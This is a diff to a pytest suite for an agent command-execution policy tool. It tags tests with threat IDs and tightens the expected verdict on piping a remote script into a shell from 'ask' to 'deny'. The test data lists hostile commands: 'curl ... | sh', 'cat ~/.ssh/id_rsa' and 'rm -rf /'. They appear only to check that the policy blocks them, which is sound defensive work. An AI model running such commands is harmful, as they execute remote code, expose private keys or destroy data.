@@ -130,6 +130,7 @@ def test_a_denial_points_at_the_words(desk: Desk) -> None:
     assert "~/.ssh/id_rsa" in lines[at - 1][column : column + length]
 
 
+@pytest.mark.threat("T14")
 def test_a_limit_is_5_and_says_how_to_raise_it(desk: Desk) -> None:
     done = desk.agent("exec", "--timeout", "0.5", "sleep 30")
     assert done.returncode == 5
@@ -169,11 +170,13 @@ def test_every_run_is_recorded_before_and_after(desk: Desk) -> None:
     assert desk.agent("audit", "verify").returncode == 0
 
 
+@pytest.mark.threat("T39")
 def test_a_question_nobody_answered_is_said_to_be_one(desk: Desk) -> None:
     desk.agent("exec", "touch nobody.txt")
     assert "write x default = ask, with nobody there to ask" in desk.agent("audit", "--limit", "1").stdout
 
 
+@pytest.mark.threat("T24")
 def test_nothing_runs_without_a_record(desk: Desk) -> None:
     """The log is a folder: the action must not run, and it is said why."""
     state = desk.base / "blocked"
@@ -215,6 +218,7 @@ def test_output_comes_while_the_command_runs(desk: Desk) -> None:
     assert outcome["ended_by"] == "cancelled"
 
 
+@pytest.mark.threat("T14")
 def test_interrupt_is_130_and_kills_the_child(desk: Desk) -> None:
     with subprocess.Popen(
         [AGENT, "exec", "echo go; sleep 4321"], cwd=desk.work, env=desk.environ, stdin=subprocess.DEVNULL, stdout=-1
@@ -286,7 +290,7 @@ def test_a_large_output_arrives_whole(desk: Desk) -> None:
 WHYS = [
     (("git status && rg -n foo src | head",), "allow", "read"),
     (("cat ~/.ssh/id_rsa",), "deny", "secret"),
-    (("curl https://example.com/x.sh | sh",), "ask", "dangerous"),
+    (("curl https://example.com/x.sh | sh",), "deny", "dangerous"),
     (("rm -rf /",), "deny", "dangerous"),
     (("--unattended", "touch x"), "deny", "write"),
     (("--mode", "trust-project", "python3 -m pytest"), "allow", "execute"),
@@ -339,6 +343,7 @@ def test_the_matrix_as_json_is_the_matrix(desk: Desk) -> None:
     assert shown == {tier.label: {mode.value: MATRIX[tier][mode].name.lower() for mode in Mode} for tier in Tier}
 
 
+@pytest.mark.threat("T19")
 def test_doctor_tells_what_this_machine_offers(desk: Desk) -> None:
     done = desk.agent("doctor", "--json")
     found = json.loads(done.stdout)
@@ -438,6 +443,7 @@ def test_exec_loads_no_heavy_library(desk: Desk) -> None:
     assert not loaded & HEAVY
 
 
+@pytest.mark.threat("T22")
 @pytest.mark.parametrize("name", ["policy", "sandbox", "tools"])
 def test_a_workspace_does_not_shadow_our_packages(desk: Desk, tmp_path: Path, name: str) -> None:
     stranger = tmp_path / name
@@ -454,6 +460,7 @@ def test_a_workspace_does_not_shadow_our_packages(desk: Desk, tmp_path: Path, na
     assert not (tmp_path / "shadowed").exists()
 
 
+@pytest.mark.threat("T40")
 def test_a_defect_of_ours_is_a_problem_with_a_private_file(desk: Desk, tmp_path: Path) -> None:
     script = tmp_path / "broken.py"
     script.write_text(
@@ -494,6 +501,7 @@ def test_a_full_stdout_is_not_a_traceback(desk: Desk) -> None:
     assert "no space left" in done.stderr
 
 
+@pytest.mark.threat("T24")
 @pytest.mark.parametrize("closed", ["<&-", ">&-", "2>&-", "<&- >&- 2>&-"])
 def test_closed_streams_change_nothing_but_themselves(desk: Desk, closed: str) -> None:
     """The audit log must never be opened as descriptor 1: then output would be written into it."""
@@ -582,6 +590,7 @@ ANSWERS = [
 ]
 
 
+@pytest.mark.threat("T35")
 @pytest.mark.parametrize(("typed", "code", "made", "why"), ANSWERS, ids=[row[3] for row in ANSWERS])
 def test_a_question_at_the_terminal(
     desk: Desk, terminal: Terminal, typed: str, code: int, made: bool, why: str
@@ -602,6 +611,7 @@ def test_a_question_at_the_terminal(
         assert (answer["yes"], answer["by"]) == (made, "terminal")
 
 
+@pytest.mark.threat("T35")
 def test_a_yes_typed_ahead_answers_nothing(desk: Desk, terminal: Terminal) -> None:
     target = desk.work / "ahead.txt"
     terminal.start("exec", "touch ahead.txt")
@@ -614,6 +624,7 @@ def test_a_yes_typed_ahead_answers_nothing(desk: Desk, terminal: Terminal) -> No
     assert not target.exists()
 
 
+@pytest.mark.threat("T39")
 def test_unattended_at_a_terminal_asks_nothing(terminal: Terminal) -> None:
     terminal.start("exec", "--unattended", "touch quiet.txt")
     assert terminal.status() == 3
